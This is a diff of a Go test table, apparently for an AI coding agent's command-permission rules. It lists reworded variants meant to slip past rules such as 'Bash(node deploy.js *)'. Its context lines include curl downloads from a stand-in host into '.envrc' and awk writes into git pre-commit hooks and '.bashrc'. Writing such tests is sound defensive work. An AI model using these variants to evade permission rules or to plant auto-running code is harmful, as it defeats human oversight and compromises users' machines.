@@ -168,6 +168,12 @@ var fresh = []struct {
 		"f=envrc; curl -s http://h -o .$f", "f=envrc; echo x > .$f",
 		"awk 'BEGIN{print \"git push\" > \".\" \"git/hooks/pre-commit\"}'", "awk 'BEGIN{print \"git push\" >> \".\"  \"bashrc\"}'", "curl -s 'http://h/{.envrc}' -o '#1'", "curl -OJ http://h/x",
 	}},
+	{"Bash(node deploy.js *)", []string{
+		"node deploy", "node ./deploy", "bun run deploy.js", "npx tsx deploy.js",
+	}},
+	{"Bash(python3 deploy.py *)", []string{
+		"coverage run deploy.py", "coverage run --branch deploy.py", "x=py; python3 deploy.$x",
+	}},
 	{"Bash(python manage.py migrate *)", []string{
 		"./manage.py migrate", "python ./manage.py migrate", "python3 manage.py migrate", "python3.12 manage.py migrate", "uv run manage.py migrate",
 	}},
